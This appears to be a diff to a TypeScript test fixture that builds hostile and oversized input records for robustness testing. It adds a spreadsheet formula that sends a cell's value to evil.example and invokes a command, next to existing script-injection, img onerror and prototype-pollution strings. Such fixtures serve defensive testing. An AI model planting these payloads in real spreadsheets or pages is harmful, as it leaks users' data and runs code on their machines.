@@ -2,6 +2,7 @@ import { randomUUID } from 'node:crypto';
 
 const RIGHT_TO_LEFT = '\u202e';
 const SCRIPT = '<script>window.ran = true</script>';
+const FORMULA = '=HYPERLINK("https://evil.example/"&A1,"+cmd|calc")';
 const IMAGE = '"><img src="https://evil.example/x.png" onerror="window.ran = true">';
 
 /** A record in which every text tries something: markup, addresses that run, characters that turn the line round. */
@@ -40,10 +41,47 @@ export function hostileFields(): Record<string, unknown> {
         nested: { deeper: [{ [IMAGE]: [SCRIPT, null, true, 1.5] }, [], {}] },
         long: `${SCRIPT} `.repeat(40),
         many: Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`k${index}`, IMAGE])),
+        formula: FORMULA,
         '': '',
       }).replace('{', '{"__proto__":{"ran":true},'),
     ),
     [`unknown${SCRIPT}${RIGHT_TO_LEFT}`]: IMAGE,
+  };
+}
+
+const UNBROKEN = 'W'.repeat(100_000);
+
+/** A record in which every text is 100,000 characters long without a space, after a formula of a spreadsheet. */
+export function hugeFields(): Record<string, unknown> {
+  const id = randomUUID();
+  const huge = `${FORMULA}</script><!--${UNBROKEN}`;
+  return {
+    interaction_id: `huge-${id}-${UNBROKEN.slice(0, 1000)}`,
+    customer_id: `huge-${id}-${huge}`,
+    customer_number: `+${huge}`,
+    desired_response_type: huge,
+    subject: huge,
+    text: huge,
+    type: huge,
+    sub_type: huge,
+    media_type: huge,
+    dn: huge,
+    location: huge,
+    callback_server_id: huge,
+    external_id: huge,
+    parent_id: huge,
+    thread_id: huge,
+    category_id: huge,
+    stopped_reason: `${RIGHT_TO_LEFT}\u0007`.repeat(50_000),
+    structured_text: `https://${'content.'.repeat(20)}example/${UNBROKEN}`,
+    structured_text_mime: huge,
+    binary_content: huge,
+    binary_content_mime: `audio/${UNBROKEN}`,
+    binary_content_size: Number.MAX_SAFE_INTEGER,
+    attempts: Number.MAX_SAFE_INTEGER,
+    owner_id: Number.MIN_SAFE_INTEGER,
+    udata: { [UNBROKEN]: huge, [FORMULA]: { [UNBROKEN]: [UNBROKEN, [[[[[[[[[['deep']]]]]]]]]]] } },
+    [UNBROKEN]: huge,
   };
 }
 
